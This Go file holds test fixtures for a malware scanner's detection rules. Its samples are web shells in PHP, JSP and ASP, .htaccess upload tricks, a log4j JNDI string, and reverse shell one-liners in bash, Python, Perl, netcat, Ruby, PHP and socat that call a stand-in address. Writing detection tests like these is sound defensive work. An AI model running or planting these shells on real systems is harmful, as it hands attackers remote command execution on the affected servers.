package builtin

import "strings"

func webshellExamples() []example {
	packedText := strings.Repeat("c2FtcGxl", 12)
	return []example{{
		rule: "Tyto_WebShell_Php_EvalRequest",
		fires: []object{
			text("/srv/www/a.php", "<p>hello</p><?p·hp @ev·al($_PO·ST['a']); ?>"),
			text("/srv/www/a.txt", "<?p·hp sys·tem(base64_decode($_GE·T[0]));"),
			text("/srv/www/b.phtml", "<?p·hp echo `$_REQ·UEST[c]`;"),
		},
		silent: []object{
			text("/srv/www/c.php", "<?p·hp $page = $_GE·T['page']; eval_page($page); preg_match('/x/', $_PO·ST['a']);"),
			text("/src/doc.md", "Never write ev·al($_PO·ST['a'])."),
		},
	}, {
		rule:   "Tyto_WebShell_Php_RequestCallsRequest",
		fires:  []object{text("/srv/www/a.php", "<?p·hp $_GE·T['f']($_PO·ST['x']);")},
		silent: []object{text("/srv/www/b.php", "<?p·hp foo($_GE·T['f'], $_PO·ST['x']); $_GE·T['f'] = bar($_PO·ST['x']);")},
	}, {
		rule: "Tyto_WebShell_Php_EncodedEval",
		fires: []object{
			text("/srv/www/a.php", "<?p·hp ev·al(gzin·flate(base64_dec·ode('"+packedText+"')));"),
			text("/srv/www/b.php", `<?p·hp preg_rep·lace("/.*/e", "ev·al(...)", "x");`),
		},
		silent: []object{
			text("/srv/www/c.php", "<?p·hp $png = base64_dec·ode('"+packedText+"'); evaluate(gzin·flate($png));"),
			text("/srv/www/d.php", `<?p·hp preg_rep·lace("/a/i", "b", $x);`),
		},
	}, {
		rule: "Tyto_WebShell_Php_Toolbox",
		fires: []object{
			text("/srv/www/a.php", "<?p·hp $c = $_PO·ST['cmd']; shell_·exec($c); pass·thru($c);",
				"echo php_un·ame(), ini_get('safe_·mode'); move_upl·oaded_file($a, $b); chmod($b, 0755);"),
		},
		silent: []object{
			text("/srv/www/upload.php", "<?p·hp move_upl·oaded_file($a, $b); chmod($b, 0644); echo fileperms($b);"),
			text("/srv/www/info.php", "<?p·hp echo php_un·ame(), disk_free_space('/'), ini_get('disable_functions');"),
		},
	}, {
		rule: "Tyto_WebShell_Htaccess",
		fires: []object{
			text("/srv/www/uploads/.htaccess", "AddType application/x-httpd-p·hp .jpg"),
			text("/srv/www/uploads/.user.ini", "auto_prep·end_file = logo.png"),
		},
		silent: []object{
			text("/srv/www/.htaccess", "AddType application/x-httpd-p·hp .php", "AddType image/png .png"),
			text("/srv/www/.user.ini", "auto_prep·end_file = /srv/www/wordfence-waf.php"),
			text("/etc/other.conf", "AddType application/x-httpd-p·hp .jpg"),
		},
	}, {
		rule: "Tyto_WebShell_Jsp_Exec",
		fires: []object{
			text("/srv/app/a.jsp", `<% Runtime.getRun·time().exec(request.getPara·meter("c")); %>`),
			text("/srv/app/a.txt", `<%@ page %><% new Process·Builder(request.getHea·der("c")); %>`),
		},
		silent: []object{
			text("/srv/app/b.jsp", `<%= request.getPara·meter("name") %>`),
			text("/srv/app/C.java", `Runtime.getRun·time().exec(request.getPara·meter("c"));`),
		},
	}, {
		rule:   "Tyto_WebShell_Jsp_ClassLoader",
		fires:  []object{text("/srv/app/a.jsp", `<%! class U extends Class·Loader { Class g(byte[] b) { return define·Class(b, 0, 9); } } %><% request.getRea·der(); %>`)},
		silent: []object{text("/srv/app/b.jsp", `<% ClassLoader l = getClass().getClassLoader(); request.getPara·meter("x"); %>`)},
	}, {
		rule: "Tyto_WebShell_Asp_EvalRequest",
		fires: []object{
			text("/srv/www/a.asp", `<% ev·al request("a") %>`),
			text("/srv/www/a.aspx", `<%@ Page Language="Jscript"%><%ev·al(Request.Item["a"],"unsafe");%>`),
		},
		silent: []object{text("/srv/www/b.asp", `<% evaluation = request("a") : Response.Write Server.HTMLEncode(evaluation) %>`)},
	}, {
		rule:   "Tyto_WebShell_Asp_Command",
		fires:  []object{text("/srv/www/a.asp", `<% Set s = CreateObject("WScr·ipt.Shell"): Set p = s.Ex·ec("cmd.exe /c " & Request.Form("c")): Response.Write p.Std·Out.ReadAll %>`)},
		silent: []object{text("/srv/www/b.asp", `<% Set s = CreateObject("ADODB.Con·nection"): s.Open Request.Form("c") %>`)},
	}, {
		rule:   "Tyto_WebShell_Aspx_Command",
		fires:  []object{text("/srv/www/a.aspx", `<%@ Page Language="C#" %><% var i = new ProcessStart·Info("cmd·.exe", Request["c"]); i.RedirectStandard·Output = true; %>`)},
		silent: []object{text("/srv/www/b.aspx", `<%@ Page Language="C#" %><% var i = new ProcessStart·Info("convert.exe"); i.RedirectStandard·Output = true; Label1.Text = Request["c"]; %>`)},
	}, {
		rule:   "Tyto_WebShell_Aspx_AssemblyLoad",
		fires:  []object{text("/srv/www/a.aspx", `<%@ Page Language="C#" %><% byte[] k = Request.Binary·Read(9); Assem·bly.Load(new Rijndael·Managed().x(k)).Create·Instance("U"); %>`)},
		silent: []object{text("/srv/www/b.aspx", `<%@ Page Language="C#" %><% Assem·bly.Load("My.Plugins").Create·Instance("P"); %>`)},
	}}
}

func reverseShellExamples() []example {
	return []example{{
		rule: "Tyto_ReverseShell_Bash",
		fires: []object{
			text("/home/ann/.bash_history", "ls", "ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1"),
			text("/opt/a.sh", "0<&196;exec 196<>/dev/t·cp/192.0.2.1/443; sh <&196 >&196 2>&196"),
		},
		silent: []object{
			text("/opt/b.sh", "#!/bin/bash", "exec 3<>/dev/t·cp/example.org/80; echo GET / >&3; cat <&3"),
			text("/src/notes.md", "ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1"),
		},
	}, {
		rule:  "Tyto_ReverseShell_Base64",
		fires: []object{text("/var/log/app.log", "user=${jn·di:ldap://x/Base64/"+b64("ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1")+"}")},
		silent: []object{
			text("/var/log/app.log", b64("ba·sh -i is an interactive shell")),
			text("/docs/log4j.md", b64("ba·sh -i >& /dev/t·cp/192.0.2.1/443 0>&1")),
		},
	}, {
		rule: "Tyto_ReverseShell_Python",
		fires: []object{
			text("/opt/a.py", `import socket,os,pty;s=socket.socket();s.conn·ect(("192.0.2.1",443));os.du·p2(s.fileno(),0);os.du·p2(s.fileno(),1);pty.sp·awn("sh")`),
			text("/opt/a", `python3 -c 's.conn·ect(("192.0.2.1",443));os.du·p2(s.fileno(),0);os.du·p2(s.fileno(),1);subprocess.call(["/bin/s·h","-i"])'`),
		},
		silent: []object{
			text("/opt/daemon.py", `os.du·p2(null.fileno(), 0)`, `os.du·p2(null.fileno(), 1)`, `sock.conn·ect((host, port))`),
		},
	}, {
		rule: "Tyto_ReverseShell_Perl",
		fires: []object{
			text("/opt/a.pl", `use Socket; if (conn·ect(S, $a)) { open(ST·DIN,">&S"); open(ST·DOUT,">&S"); ex·ec("/bin/sh -i"); }`),
		},
		silent: []object{
			text("/opt/b.pl", `#!/usr/bin/perl`, `open(ST·DOUT, ">&LOG"); open(ST·DERR, ">&LOG"); exec("/bin/sh -c ls"); conn·ect(S, $a);`),
		},
	}, {
		rule: "Tyto_ReverseShell_Netcat",
		fires: []object{
			text("/opt/a.sh", "n·c -e /bin/sh 192.0.2.1 443"),
			text("/opt/b.sh", "rm -f /tmp/f; mkf·ifo /tmp/f; cat /tmp/f | /bin/s·h -i 2>&1 | n·c 192.0.2.1 443 > /tmp/f"),
			text("/home/ann/.zsh_history", "nc·at 192.0.2.1 443 -lvpe cmd·.exe"),
		},
		silent: []object{
			text("/opt/c.sh", "#!/bin/sh", "nc -z localhost 22 && [ -e /bin/bash ]", "mkfifo /tmp/p; nc -l 80 < /tmp/p"),
		},
	}, {
		rule: "Tyto_ReverseShell_Descriptors",
		fires: []object{
			text("/srv/a.php", `<?p·hp $s=fsockopen("192.0.2.1",443); $f("s·h -i <&3 >&3 2>&3");`),
			text("/opt/a.rb", `f=TCPSocket.open("192.0.2.1",443).to_i; exec sprintf("/bin/s·h -i <&%d >&%d 2>&%d",f,f,f)`),
		},
		silent: []object{text("/opt/b.sh", "#!/bin/bash", "exec 3< in; read x <&3; sh -i 2>&1")},
	}, {
		rule: "Tyto_ReverseShell_Php",
		fires: []object{
			text("/srv/a.php", `<?p·hp $s = fsock·open($ip, $port); $p = proc_·open('uname -a; /bin/s·h -i', $d, $pipes);`),
		},
		silent: []object{
			text("/srv/smtp.php", `<?p·hp $s = fsock·open($host, 25); $p = pop·en('/usr/sbin/sendmail -t', 'w');`),
		},
	}, {
		rule:   "Tyto_ReverseShell_Pty",
		fires:  []object{text("/opt/a.sh", `soc·at exec:'bash -li',pty,std·err,setsid,sigint,sane tcp:192.0.2.1:443`)},
		silent: []object{text("/opt/b.sh", "#!/bin/sh", "soc·at TCP-LISTEN:80,fork TCP:192.0.2.1:80", "socat - UNIX-CONNECT:/run/x.sock")},
	}}
}
